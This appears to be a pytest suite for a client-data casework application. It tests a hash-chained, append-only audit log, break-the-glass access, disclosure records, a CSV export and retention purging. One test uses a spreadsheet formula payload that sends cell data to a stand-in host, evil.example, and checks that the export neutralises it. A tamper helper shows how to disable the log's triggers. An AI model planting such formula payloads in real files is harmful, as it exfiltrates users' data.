"""The client-data law's logs: the chained use log, disclosures, the client's log report (§11),
break-the-glass, the caseload export and the retention purge, on both databases."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from datetime import date, timedelta
from pathlib import Path

import pytest

from server.accounts.services import add_user
from server.audit import chain
from server.audit.tables import DisclosureLog, GlassAccess
from server.casework.tables import AccessLog, Client, Visit
from server.ops.purge import plan_purge, purge
from server.services.directory import load_national_services
from server.services.tables import Service
from server.settings import get_settings
from server.timeutil import utcnow
from tests.support.casework import api, make_client, patch_client
from tests.support.fixtures import PASSWORD, login

pytestmark = pytest.mark.anyio
PROJECT = Path(__file__).resolve().parent.parent


def _cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "server.cli", *args], cwd=PROJECT, capture_output=True, text=True, timeout=120
    )


async def _tamper(sql: str) -> None:
    """Change a log row behind the app's back, as someone with the database owner's rights could."""
    if get_settings().is_sqlite:
        await AccessLog.raw('DROP TRIGGER "access_log_no_update"')
        await AccessLog.raw(sql)
    else:
        await AccessLog.raw('ALTER TABLE "access_log" DISABLE TRIGGER "access_log_append_only"')
        await AccessLog.raw(sql)
        await AccessLog.raw('ALTER TABLE "access_log" ENABLE TRIGGER "access_log_append_only"')


async def _three_reads(client, world) -> list[int]:
    """Alice opens a client's page three times: the ids of the three use-log rows."""
    client_id = await make_client(world.team_a, "Lintu")
    await login(client, "alice@example.org")
    for _ in range(3):
        await client.get(f"/clients/{client_id}")
    return [row["id"] for row in await AccessLog.select(AccessLog.id).order_by(AccessLog.id)]


# The use log ----------------------------------------------------------------------------------


async def test_every_read_is_a_chained_row_with_who_why_and_which_request(client, world):
    client_id = await make_client(world.team_a, "Lintu")
    await login(client, "alice@example.org")
    page = await client.get(f"/clients/{client_id}")
    assert page.status_code == 200
    await api(client, "GET", f"/api/v1/clients/{client_id}")
    await client.get("/clients?who=team")
    rows = await AccessLog.select().where(AccessLog.client == client_id).order_by(AccessLog.id)
    assert [row["what"] for row in rows] == ["client_page", "api_client", "caseload"]
    first = rows[0]
    assert (first["user"], first["role"], first["team"], first["action"], first["basis"], first["outcome"]) == (
        world.alice,
        "professional",
        world.team_a,
        "read",
        "team",
        "ok",
    )
    assert first["request_id"] == page.headers["x-request-id"] and first["session"] is not None
    assert [row["prev_hash"] for row in rows[1:]] == [row["hash"] for row in rows[:-1]]
    verdict = await chain.verify(AccessLog)
    assert verdict.intact and verdict.rows == 3


async def test_a_search_logs_each_client_it_reveals(client, world):
    shown = await make_client(world.team_a, "Kettu")
    await make_client(world.team_a, "Orava")
    await login(client, "alice@example.org")
    found = await api(client, "POST", "/api/v1/clients/search", {"q": "ket"})
    assert [item["id"] for item in found.json()["items"]] == [shown]
    rows = await AccessLog.select(AccessLog.client, AccessLog.action)
    assert rows == [{"client": shown, "action": "search"}]


async def test_the_log_cannot_be_changed_and_a_change_behind_its_back_is_found(client, world):
    ids = await _three_reads(client, world)
    with pytest.raises(Exception, match="append-only"):
        await AccessLog.update({AccessLog.what: "nothing"}).where(AccessLog.id == ids[1])
    if not get_settings().is_sqlite:
        with pytest.raises(Exception, match="append-only"):
            await AccessLog.delete().where(AccessLog.id == ids[1])
    assert _cli("audit", "verify").returncode == 0
    await _tamper(f"UPDATE access_log SET role = 'lead' WHERE id = {ids[1]}")
    verdict = await chain.verify(AccessLog)
    assert verdict.first_broken_id == ids[1] and verdict.rows == 1
    result = _cli("audit", "verify")
    assert result.returncode == 1 and f"broken at row {ids[1]}" in result.stderr


async def test_a_removed_row_breaks_the_chain_at_the_next(client, world):
    ids = await _three_reads(client, world)
    if get_settings().is_sqlite:
        await AccessLog.raw(f"DELETE FROM access_log WHERE id = {ids[1]}")
    else:
        await _tamper(f"DELETE FROM access_log WHERE id = {ids[1]}")
    assert (await chain.verify(AccessLog)).first_broken_id == ids[2]


# Break-the-glass ------------------------------------------------------------------------------


async def test_break_the_glass_opens_another_teams_client_read_only_with_a_logged_reason(client, world):
    client_id = await make_client(world.team_a, "Makkara-Matti", phone="040 123", birth_year=1978)
    await login(client, "dave@example.org")
    assert (await api(client, "GET", f"/api/v1/clients/{client_id}")).status_code == 404
    found = await api(client, "POST", "/api/v1/clients/search-organisation", {"q": "makkara", "birth_year": 1978})
    assert found.json() == {"items": [{"id": client_id, "pseudonym": "Makkara-Matti", "team": "Team A"}]}
    too_short = await api(client, "POST", "/api/v1/clients/search-organisation", {"q": "ma", "birth_year": 1978})
    assert too_short.status_code == 422
    refused = await api(client, "POST", f"/api/v1/clients/{client_id}/break-glass", {"reason": "  "})
    assert refused.status_code == 422 and refused.json()["errors"][0]["field"] == "reason"
    assert await GlassAccess.count() == 0

    opened = await api(
        client,
        "POST",
        f"/api/v1/clients/{client_id}/break-glass",
        {"reason": "Met at the night shelter, needs his appointment time"},
    )
    assert opened.status_code == 201
    assert (await api(client, "GET", f"/api/v1/clients/{client_id}")).json()["phone"] == "040 123"
    page = await client.get(f"/clients/{client_id}")
    assert page.status_code == 200 and "Met at the night shelter" in page.text
    assert 'action="/clients/' not in page.text  # no forms: read only
    changed = await patch_client(client, client_id, {"phone": "050 999"})
    assert changed.status_code == 404
    assert (await Client.select(Client.phone).where(Client.id == client_id).first())["phone"] == "040 123"

    uses = (
        await AccessLog.select(AccessLog.what, AccessLog.basis, AccessLog.reason)
        .where((AccessLog.user == world.dave) & (AccessLog.outcome == "ok"))
        .order_by(AccessLog.id)
    )
    assert [u["basis"] for u in uses] == ["org_search", "break_glass", "break_glass", "break_glass"]
    assert all(u["reason"].startswith("Met at the night shelter") for u in uses[1:])


async def test_an_opening_ends_after_twelve_hours(client, world):
    client_id = await make_client(world.team_a, "Makkara-Matti")
    await login(client, "dave@example.org")
    await api(client, "POST", f"/api/v1/clients/{client_id}/break-glass", {"reason": "Night shift"})
    await GlassAccess.update({GlassAccess.expires_at: utcnow() - timedelta(seconds=1)}).where(
        GlassAccess.client == client_id
    )
    assert (await api(client, "GET", f"/api/v1/clients/{client_id}")).status_code == 404


async def test_both_teams_leads_see_the_opening_on_the_dashboard(client, world):
    client_id = await make_client(world.team_a, "Makkara-Matti")
    await login(client, "dave@example.org")
    await api(client, "POST", f"/api/v1/clients/{client_id}/break-glass", {"reason": "Night shift"})
    await add_user("bea@example.org", "lead", PASSWORD, "Team B", "Bea")
    for lead, sees_name in (("lena@example.org", True), ("bea@example.org", False)):
        client.cookies.clear()
        await login(client, lead)
        openings = (await client.get("/api/v1/dashboard")).json()["break_glass"]
        assert [(o["user"], o["reason"]) for o in openings] == [("Dave", "Night shift")]
        assert (openings[0]["pseudonym"] == "Makkara-Matti") is sees_name
        page = await client.get("/lead")
        assert "Night shift" in page.text


# The client's log report (§11) and disclosures ------------------------------------------------


async def test_the_log_report_lists_uses_and_disclosures_and_is_itself_logged(client, world):
    await load_national_services()
    client_id = await make_client(world.team_a, "Lintu")
    service = await Service.select(Service.id, Service.name_fi).first()
    await login(client, "alice@example.org")
    await client.get(f"/clients/{client_id}")
    made = await api(client, "POST", "/api/v1/referrals", {"client_id": client_id, "service_id": service["id"]})
    assert made.status_code == 201

    client.cookies.clear()
    await login(client, "lena@example.org")
    report = (await api(client, "GET", f"/api/v1/clients/{client_id}/log-report")).json()
    assert (
        report["from"] == (date.fromisoformat(report["to"]) - timedelta(days=365 * 2 + 1)).isoformat()
        or report["from"] < report["to"]
    )
    assert {"at", "user", "role", "action", "basis"} <= set(report["uses"][0])
    assert ("Alice", "professional", "read", "team") in {
        (u["user"], u["role"], u["action"], u["basis"]) for u in report["uses"]
    }
    assert report["disclosures"] == [
        {
            "at": report["disclosures"][0]["at"],
            "user": "Alice",
            "role": "professional",
            "recipient": service["name_fi"],
            "basis": "client_agreed",
            "categories": ["identity", "referral"],
        }
    ]
    logged = await AccessLog.select(AccessLog.what).where(AccessLog.user == world.lena)
    assert {"what": "api_log_report"} in logged

    page = await client.get(f"/clients/{client_id}/log-report?lang=sv")
    assert page.status_code == 200 and 'lang="sv"' in page.text and "Alice" in page.text
    bad = await api(client, "GET", f"/api/v1/clients/{client_id}/log-report?from=2026-05-01&to=2026-04-01")
    assert bad.status_code == 422


async def test_another_teams_lead_gets_no_report(client, world):
    client_id = await make_client(world.team_b, "Lintu")
    await login(client, "lena@example.org")
    assert (await api(client, "GET", f"/api/v1/clients/{client_id}/log-report")).status_code == 404


async def test_a_calendar_file_is_a_disclosure(client, world):
    from server.casework.tables import Appointment

    client_id = await make_client(world.team_a, "Lintu")
    appointment = (
        await Appointment.insert(
            Appointment(team=world.team_a, client=client_id, starts_at=utcnow() + timedelta(days=1))
        )
    )[0]["id"]
    await login(client, "alice@example.org")
    assert (await client.get(f"/appointments/{appointment}.ics")).status_code == 200
    rows = await DisclosureLog.select(DisclosureLog.client, DisclosureLog.recipient, DisclosureLog.user)
    assert rows == [{"client": client_id, "recipient": "calendar_file", "user": world.alice}]
    assert (await chain.verify(DisclosureLog)).intact


# The caseload export --------------------------------------------------------------------------


async def test_the_caseload_export_neutralises_formulas_and_is_logged_as_a_disclosure(client, world):
    ours = await make_client(world.team_a, '=HYPERLINK("https://evil.example/?"&A1,"x")')
    theirs = await make_client(world.team_b, "Toinen")
    await login(client, "alice@example.org")
    assert (await client.get("/api/v1/clients.csv")).status_code == 403
    client.cookies.clear()
    await login(client, "lena@example.org")
    response = await client.get("/api/v1/clients.csv")
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[0][:3] == ["id", "team", "pseudonym"]
    assert [(row[0], row[2]) for row in rows[1:]] == [(str(ours), '\'=HYPERLINK("https://evil.example/?"&A1,"x")')]
    other_team = await client.get(f"/api/v1/clients.csv?team={world.team_b}")
    assert len(list(csv.reader(io.StringIO(other_team.text)))) == 1
    disclosed = await DisclosureLog.select(DisclosureLog.client, DisclosureLog.basis)
    assert disclosed == [{"client": ours, "basis": "lead_export"}]
    assert await AccessLog.count().where(AccessLog.client == theirs) == 0


# Retention ------------------------------------------------------------------------------------


async def test_purge_empties_long_closed_clients_and_old_log_rows_and_the_chain_still_holds(client, world):
    eleven_years = date.today() - timedelta(days=365 * 11)
    gone = await make_client(world.team_a, "Vanha", status="closed", status_changed_on=eleven_years, phone="040 1")
    kept = await make_client(world.team_a, "Uusi", status="closed", status_changed_on=date.today())
    await Visit.insert(
        Visit(
            uuid="7d1f3f4e-9b0a-4c55-8a51-0d2c0e6e8f01",
            team=world.team_a,
            client=gone,
            occurred_at=utcnow(),
            notes="secret",
            created_by=world.alice,
        )
    )
    old = utcnow() - timedelta(days=365 * 13)
    await chain.append(
        AccessLog,
        [
            {
                "at": old,
                "user": world.alice,
                "role": "professional",
                "team": world.team_a,
                "client": kept,
                "action": "read",
                "what": "client_page",
                "object": "client",
                "basis": "team",
                "reason": "",
                "request_id": "",
                "session": None,
                "outcome": "ok",
            }
        ],
    )
    await login(client, "alice@example.org")
    await client.get(f"/clients/{kept}")

    plan = await plan_purge()
    assert [c["id"] for c in plan.clients] == [gone] and plan.use_rows == 1
    assert await Client.count() == 2  # the dry run changed nothing
    await purge()
    tombstone = await Client.select().where(Client.id == gone).first()
    assert (tombstone["team"], tombstone["pseudonym"], tombstone["phone"]) == (None, "", "")
    assert await Visit.count().where(Visit.client == gone) == 0
    assert await AccessLog.count().where(AccessLog.at < utcnow() - timedelta(days=365 * 12)) == 0
    assert await AccessLog.exists().where((AccessLog.client == gone) & (AccessLog.action == "delete"))
    assert (await chain.verify(AccessLog)).intact
    assert (await client.get(f"/clients/{gone}")).status_code == 404
    assert (await client.get(f"/clients/{kept}")).status_code == 200
    assert (await chain.verify(AccessLog)).intact
    assert "Would purge 0 client(s)" in _cli("purge", "--dry-run").stdout


async def test_a_refused_attempt_is_one_security_log_line_naming_ids_only(client, world, caplog):
    import logging

    client_id = await make_client(world.team_a, "Lintu")
    await login(client, "dave@example.org")
    with caplog.at_level(logging.WARNING, logger="rinnalla.security"):
        assert (await client.get(f"/clients/{client_id}")).status_code == 404
    lines = [record.getMessage() for record in caplog.records if record.name == "rinnalla.security"]
    assert lines == [f"refused: user {world.dave} at client {client_id} of another team (client_page)"]
